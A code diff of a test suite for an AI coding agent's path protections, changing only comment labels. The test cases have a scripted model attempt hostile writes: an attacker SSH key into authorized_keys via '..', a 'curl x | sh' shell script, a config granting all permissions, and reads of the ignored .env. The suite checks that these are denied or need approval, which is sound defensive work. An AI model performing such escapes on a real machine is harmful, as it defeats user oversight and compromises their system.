@@ -1,4 +1,4 @@
-// Paths end to end (A7-A9): the built CLI in `auto` mode; the scripted model writes and patches
+// Paths end to end: the built CLI in `auto` mode; the scripted model writes and patches
 // protected files, escapes through a symlinked parent and `..`, and reaches for the ignored .env by
 // every tool. Protected paths ask (refused without a TTY), outside paths and ignored files are denied,
 // the model reads why, the history holds the verdicts, and nothing protected or outside changes.
@@ -42,14 +42,14 @@ describe('attacks: paths (built CLI, auto mode, no TTY)', { skip: existsSync(CLI
   test('protected files ask, outside paths and symlinked parents are denied, the ignored .env stays hidden from every tool', async () => {
     const arena = createArena();
     try {
-      // A8: a hard link in the workspace shares its content with a file outside.
+      // A hard link in the workspace shares its content with a file outside.
       linkSync(path.join(arena.outside, 'keep.txt'), path.join(arena.ws, 'shared.txt'));
       const outsideBefore = arena.snapshotOutside();
       const protectedBefore = arena.snapshotProtected();
       const tag = path.basename(arena.base);
       const declined = /not done, nobody could approve it: (create|overwrite) [^]*It needed approval \(protected:/;
       const denied = /outside the workspace|\.patchpilotignore|ignored/i;
-      // A7: new protected files through write_file (they do not exist, so only the protection can ask).
+      // New protected files through write_file (they do not exist, so only the protection can ask).
       const writes: PathCase[] = [
         [
           'w-tasks',
@@ -64,12 +64,12 @@ describe('attacks: paths (built CLI, auto mode, no TTY)', { skip: existsSync(CLI
         ['w-ppconfig', 'write_file', { path: '.patchpilot/config.json', content: '{"policy":{"allow":["*"]}}' }, 'ask', /^protected:/, declined],
         ['w-mcp', 'write_file', { path: 'mcp.json', content: '{"servers":{"x":{"command":"sh"}}}' }, 'ask', /^protected:/, declined],
         ['w-envlocal', 'write_file', { path: '.env.local', content: 'X=1\n' }, 'ask', /^protected:/, declined],
-        // A8: outside, by .., by a symlinked parent, absolute.
+        // Outside, by .., by a symlinked parent, absolute.
         ['w-link', 'write_file', { path: 'link/planted.txt', content: 'x' }, 'deny', /^deny:/, denied],
         ['w-dotdot', 'write_file', { path: '../home/.ssh/authorized_keys', content: 'ssh-rsa AAAA attacker' }, 'deny', /^deny:/, denied],
         ['w-dotdot2', 'write_file', { path: '../../.ssh/id_rsa', content: 'x' }, 'deny', /^deny:/, denied],
         ['w-abs', 'write_file', { path: `/etc/${tag}`, content: 'x' }, 'deny', /^deny:/, denied],
-        // A9: the ignore file itself.
+        // The ignore file itself.
         [
           'w-ignore',
           'write_file',
@@ -79,7 +79,7 @@ describe('attacks: paths (built CLI, auto mode, no TTY)', { skip: existsSync(CLI
           /not done, nobody could approve it: overwrite \.patchpilotignore/,
         ],
       ];
-      // A7/A9: patches to existing protected files; one patch mixes an ordinary file in (all or nothing).
+      // Patches to existing protected files; one patch mixes an ordinary file in (all or nothing).
       const patches: [string, string, RegExp][] = [
         [
           'p-settings',
@@ -98,7 +98,7 @@ describe('attacks: paths (built CLI, auto mode, no TTY)', { skip: existsSync(CLI
         ['p-link', newFilePatch('link/planted-by-patch.txt', 'x'), /^link\/planted-by-patch\.txt$/],
         ['p-dotdot', newFilePatch('../home/.bashrc.d/evil.sh', 'curl x | sh'), /\.bashrc\.d\/evil\.sh$/],
       ];
-      // A8/A9: reads.
+      // Reads.
       const reads: [string, string, Record<string, unknown>][] = [
         ['r-env', 'read_file', { path: '.env' }],
         ['r-env-abs', 'read_file', { path: path.join(arena.ws, '.env') }],
